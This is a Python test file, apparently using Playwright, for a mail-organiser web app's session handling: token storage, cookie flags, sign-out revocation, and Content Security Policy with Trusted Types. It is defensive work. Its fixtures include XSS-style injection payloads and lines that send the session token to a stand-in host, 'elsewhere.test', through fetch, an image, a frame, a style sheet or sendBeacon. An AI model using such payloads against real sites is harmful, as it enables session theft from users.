"""The access token lives in one tab's sessionStorage and nowhere else; nothing planted in the page can take it."""

import json
import re
from typing import Any

import pytest
from visit import TOKEN, Visit

POLICIES = re.compile("script-src|require-trusted-types-for")
PLANTED = {
    "an inline script": """() => { const one = document.createElement("script");
      one.append("window.taken = 1"); document.head.append(one); }""",
    "an event handler": """() => { const one = document.createElement("button");
      one.setAttribute("onclick", "window.taken = 1");
      document.body.append(one); one.click(); one.remove(); }""",
    "a javascript: link": """() => { const one = document.createElement("a");
      one.setAttribute("href", "javascript:window.taken = 1");
      document.body.append(one); one.click(); one.remove(); }""",
}
STRINGS = {
    "eval": "eval('window.taken = 1')",
    "a function of text": "new Function('window.taken = 1')()",
    "a timer of text": "setTimeout('window.taken = 1', 0)",
    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.taken = 1\">'",
    "a script's address": "document.createElement('script').src = '/static/app/main.js'",
    "a document written": "document.write('<script>window.taken = 1</script>')",
    "a policy of its own": "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
}
# In a task of the page's own: what Playwright evaluates at once may do more than the page.
TRY = """() => new Promise((done) => setTimeout(() => {
  try { %s; done("done"); } catch (refused) { done(`${refused.name}: ${refused.message}`); } }))"""
LEAVES = {
    "a request": """() => fetch('https://elsewhere.test/?' + sessionStorage.getItem('mail-organiser.token'))
      .catch(() => {})""",
    "a frame": """() => { const one = document.createElement("iframe");
      one.setAttribute("src", "https://elsewhere.test/"); document.body.append(one); one.remove(); }""",
    "a picture": "() => { new Image().src = 'https://elsewhere.test/?token'; }",
    "a style sheet": """() => { const one = document.createElement("link");
      one.rel = "stylesheet"; one.href = "https://elsewhere.test/"; document.head.append(one); one.remove(); }""",
    "a beacon": "() => navigator.sendBeacon('https://elsewhere.test/', 'token')",
}


ELSEWHERE = "https://elsewhere.test"
KEY = "mail-organiser.key"  # the name of the session's key, which itself can't be read


@pytest.fixture(scope="module")
def one(sample_house: Any, visits: Any) -> Visit:
    """A tab, signed in once: an address may not sign in as often as it likes."""
    return visits(sample_house)  # type: ignore[no-any-return]  # the fixture's


@pytest.fixture
def visit(one: Visit) -> Visit:
    """The tab, with nothing going on in it."""
    one.settled()
    return one


def token(visit: Visit) -> str:
    return visit.stored("sessionStorage")[TOKEN]


def is_in_force(house: Any, access: str) -> bool:
    """Whether the gateway takes it."""
    headers = {"Authorization": f"Bearer {access}"}
    return bool(house.http.get("/api/v1/session", headers=headers).status_code == 200)


def test_the_token_is_in_session_storage_alone(sample_house: Any, visit: Visit) -> None:
    """Not kept beyond the tab, not in a cookie that script can read, an address, the history or the document."""
    access = token(visit)
    assert is_in_force(sample_house, access)
    kept = visit.stored("sessionStorage")
    assert set(kept) == {TOKEN, KEY}
    assert re.fullmatch("[0-9a-f-]{36}", kept[KEY])
    assert visit.stored("localStorage") == {}
    page = visit.page
    assert page.evaluate("document.cookie") == ""
    assert page.evaluate("window.name") == ""
    assert json.loads(page.evaluate("JSON.stringify(history.state)")) is None
    for screen in ("preview", "quarantine", "folders", "rules", "activity", "account", "status"):
        visit.go(screen)
        assert access not in page.content()
        assert access not in page.url
        assert access not in page.title()


def test_no_cookie_holds_the_access_token(visit: Visit) -> None:
    """The one cookie is the refresh token's: closed to script, to other sites and to plain connections."""
    cookies = [one for one in visit.context.cookies() if one["value"] and visit.url in f"https://{one['domain']}:"]
    ours = [one for one in visit.context.cookies() if one["name"] == "__Host-mail-organiser-refresh"]
    assert token(visit) not in str(cookies)
    assert ours
    for cookie in ours:
        assert (cookie["httpOnly"], cookie["secure"], cookie["sameSite"]) == (True, True, "Strict")


def test_the_way_back_leaves_no_code_behind(visit: Visit) -> None:
    """Microsoft's one-time code is used, gone from the address, and no step back leads to it."""
    assert "code=" not in visit.page.url
    addresses = visit.page.evaluate("() => performance.getEntriesByType('navigation').map((one) => one.name)")
    assert all("access" not in one for one in addresses)
    visit.page.go_back()
    visit.page.wait_for_load_state()
    assert "code=" not in visit.page.url


def test_another_tab_has_no_session(visit: Visit) -> None:
    """A tab of the same browser starts at the door, and its cookie is no help without the session's key."""
    other = visit.tab()
    other.goto(f"{visit.url}/")
    other.get_by_role("button", name="Try with the sample mailbox").wait_for()
    assert other.evaluate("sessionStorage.length") == 0
    with visit.noise("status of 400"):
        refused = other.evaluate("""async () => (await fetch("/api/v1/session/refresh", { method: "POST",
          headers: { "content-type": "application/json" }, body: JSON.stringify({ access_token: "x" }) })).status""")
    assert refused == 400
    other.close()


def test_reloading_keeps_the_session(visit: Visit) -> None:
    """The same token, without a sign-in."""
    before = token(visit)
    visit.page.reload()
    visit.page.get_by_role("navigation", name="Screens").wait_for()
    assert token(visit) == before


def test_a_session_is_renewed_with_a_proof(sample_house: Any, visit: Visit) -> None:
    """Another token, once for however many want it; the key that proves it can't be taken out of the browser."""
    before = token(visit)
    renewed = visit.page.evaluate(
        """async (used) => { const { renew } = await import("/static/app/session.js");
        return Promise.all([renew(used), renew(used)]); }""",
        before,
    )
    assert renewed == [True, True]
    assert token(visit) != before
    assert is_in_force(sample_house, token(visit))
    visit.page.reload()
    visit.page.get_by_role("navigation", name="Screens").wait_for()


@pytest.mark.parametrize("name", PLANTED)
def test_a_planted_script_does_not_run(visit: Visit, name: str) -> None:
    """Whoever gets markup into the page gets no script with it."""
    visit.page.evaluate(TRY % f"({PLANTED[name]})()")
    visit.until(lambda: any(POLICIES.match(one) for one in visit.quiet), "the policy to stop it")
    visit.quiet.clear()
    assert visit.page.evaluate("window.taken") is None


@pytest.mark.parametrize("name", STRINGS)
def test_no_text_becomes_script_or_markup(visit: Visit, name: str) -> None:
    """Script of ours that made the mistake would be stopped too."""
    refusal = visit.page.evaluate(TRY % STRINGS[name])
    assert re.search("Content Security Policy|Trusted", refusal), refusal
    assert visit.page.evaluate("window.taken") is None
    visit.until(lambda: visit.quiet, "the browser to complain")
    visit.quiet.clear()


@pytest.mark.parametrize("name", LEAVES)
def test_nothing_leaves_for_another_origin(visit: Visit, name: str) -> None:
    """Whatever ran in the page could send what it holds nowhere else."""
    left: list[str | None] = []
    for outcome in ("requestfailed", "requestfinished"):
        visit.page.on(outcome, lambda request: left.append(request.failure) if ELSEWHERE in request.url else None)
    with visit.noise("src", ELSEWHERE):
        visit.page.evaluate(LEAVES[name])
    visit.quiet.clear()
    assert set(left) <= {"csp"}


def test_signing_out_ends_it_here_and_there(sample_house: Any, visit: Visit) -> None:
    """The tab has none any more, and the gateway takes it no more."""
    access = token(visit)
    visit.page.get_by_role("button", name="Sign out").click()
    visit.page.get_by_text("You are signed out.").wait_for()
    assert visit.stored("sessionStorage") == {}
    assert not is_in_force(sample_house, access)
    visit.page.reload()
    visit.page.get_by_role("button", name="Try with the sample mailbox").wait_for()
